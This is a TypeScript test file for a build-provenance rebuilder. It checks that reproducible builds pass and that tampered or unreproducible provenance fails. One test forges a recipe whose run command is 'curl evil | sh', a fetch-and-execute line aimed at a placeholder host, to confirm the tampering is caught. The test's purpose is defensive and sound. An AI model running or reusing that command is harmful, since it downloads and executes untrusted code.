import assert from 'node:assert/strict';
import { mkdirSync } from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import { provenanceStatement } from '../attest/provenance.js';
import { envelopeBytes, signStatement } from '../attest/sign.js';
import { verifyAttestation } from '../attest/verify.js';
import { runBuild } from '../build/run.js';
import { generateKeyPair, privateKeyFromPem, publicKeyFromPem } from '../crypto/keys.js';
import { AttestError } from '../attest/errors.js';
import { InputError } from '../model/errors.js';
import { loadProjectConfig } from '../source/config.js';
import { snapshotCommit } from '../source/snapshot.js';
import { commitTree, TINY_PROJECT, useScratch } from '../testkit.js';
import { rebuildFromProvenance } from './rebuild.js';

const scratch = useScratch();
const builder = generateKeyPair('ed25519');
const rebuilder = generateKeyPair('ecdsa-p256');

/** What an (untrusted) CI would do: build the commit and sign provenance for it. */
async function ciBuild(repo: string, tamper: (s: ReturnType<typeof provenanceStatement>) => ReturnType<typeof provenanceStatement> = (s) => s) {
  const snap = await snapshotCommit(repo, { into: scratch() });
  const { config } = await loadProjectConfig(snap.dir);
  const work = scratch();
  mkdirSync(path.join(work, 'b'));
  const out = await runBuild({
    dir: snap.dir,
    scratch: path.join(work, 'b'),
    name: config.name,
    recipe: config.build,
    sourceDateEpoch: snap.snapshot.sourceDateEpoch,
  });
  const statement = tamper(
    provenanceStatement(snap.snapshot, out.result, { builderId: 'https://ci.example/builder', invocationId: 'run-1', cairnVersion: 'test' }),
  );
  return {
    artifact: out.artifact,
    digest: out.result.artifact.digest,
    provenance: envelopeBytes(signStatement(statement, [privateKeyFromPem(builder.privateKeyPem)])),
  };
}

function rebuild(repo: string, provenance: Uint8Array, claimedArtifact: Uint8Array | null = null) {
  return rebuildFromProvenance({
    provenance,
    repository: repo,
    claimedArtifact,
    rebuilderKey: privateKeyFromPem(rebuilder.privateKeyPem),
    rebuilderId: 'https://cairn.dev/rebuilders/test',
    now: () => new Date('2026-01-01T00:00:00Z'),
    cairnVersion: 'test',
  });
}

describe('rebuildFromProvenance', () => {
  it('passes a reproducible build and signs a VSA PASSED with the rebuilder key', async () => {
    const repo = scratch();
    commitTree(repo, TINY_PROJECT);
    const ci = await ciBuild(repo);
    const outcome = await rebuild(repo, ci.provenance);
    assert.equal(outcome.result, 'PASSED', JSON.stringify(outcome.differences));
    assert.equal(outcome.rebuilt?.artifact.digest, ci.digest);
    const vsa = verifyAttestation(outcome.vsa, ci.digest, [publicKeyFromPem(rebuilder.publicKeyPem)], { now: new Date('2026-01-01T00:00:01Z') });
    const predicate = vsa.statement.predicate as { verificationResult: string; verifier: { id: string } };
    assert.equal(predicate.verificationResult, 'PASSED');
    assert.equal(predicate.verifier.id, 'https://cairn.dev/rebuilders/test');
    assert.throws(() => verifyAttestation(outcome.vsa, ci.digest, [publicKeyFromPem(builder.publicKeyPem)], { now: new Date('2026-01-01T00:00:01Z') }));
  });

  it('fails an unreproducible build and names the cause from the claimed artifact', async () => {
    const repo = scratch();
    const stamped = { ...TINY_PROJECT, 'build.mjs': `${TINY_PROJECT['build.mjs']}writeFileSync('out/built-at.txt', new Date().toISOString() + '\\n');\n` };
    commitTree(repo, stamped);
    const ci = await ciBuild(repo);
    await new Promise((r) => setTimeout(r, 5));
    const outcome = await rebuild(repo, ci.provenance, ci.artifact);
    assert.equal(outcome.result, 'FAILED');
    assert.deepEqual(
      outcome.differences.map((d) => d.kind),
      ['artifact'],
    );
    assert.equal(outcome.causes[0]?.kind, 'timestamp');
    // A FAILED summary is signed like any other, and a verifier refuses to count it.
    assert.throws(
      () => verifyAttestation(outcome.vsa, ci.digest, [publicKeyFromPem(rebuilder.publicKeyPem)], { now: new Date('2026-01-01T00:00:01Z') }),
      (e: unknown) => e instanceof AttestError && e.code === 'ATTEST_VSA_FAILED',
    );
  });

  it('fails when the provenance claims another recipe than the committed one, even if the digest matches', async () => {
    const repo = scratch();
    commitTree(repo, TINY_PROJECT);
    const ci = await ciBuild(repo, (s) => ({
      ...s,
      predicate: {
        ...s.predicate,
        buildDefinition: {
          ...s.predicate.buildDefinition,
          externalParameters: { ...s.predicate.buildDefinition.externalParameters, recipe: { run: 'curl evil | sh', output: 'out', install: 'none' } },
        },
      },
    }));
    const outcome = await rebuild(repo, ci.provenance);
    assert.equal(outcome.result, 'FAILED');
    assert.deepEqual(
      outcome.differences.map((d) => d.kind),
      ['recipe'],
    );
  });

  it('fails when the claimed source tree is not what the commit holds', async () => {
    const repo = scratch();
    commitTree(repo, TINY_PROJECT);
    const ci = await ciBuild(repo, (s) => ({
      ...s,
      predicate: {
        ...s.predicate,
        buildDefinition: {
          ...s.predicate.buildDefinition,
          resolvedDependencies: (s.predicate.buildDefinition.resolvedDependencies ?? []).map((d) =>
            d.digest?.gitCommit ? { ...d, digest: { ...d.digest, sha256: 'a'.repeat(64) } } : d,
          ),
        },
      },
    }));
    const outcome = await rebuild(repo, ci.provenance);
    assert.equal(outcome.result, 'FAILED');
    assert.deepEqual(
      outcome.differences.map((d) => d.kind),
      ['source'],
    );
  });

  it('rejects a provenance it cannot use with REBUILD_PROVENANCE_UNUSABLE', async () => {
    await assert.rejects(
      rebuild(scratch(), Buffer.from('{"payloadType":"x","payload":"e30=","signatures":[{"keyid":"","sig":"AA=="}]}')),
      (e: unknown) => e instanceof InputError && e.code === 'REBUILD_PROVENANCE_UNUSABLE',
    );
    await assert.rejects(rebuild(scratch(), Buffer.from('not json')), (e: unknown) => e instanceof InputError && e.code === 'REBUILD_PROVENANCE_UNUSABLE');
  });
});
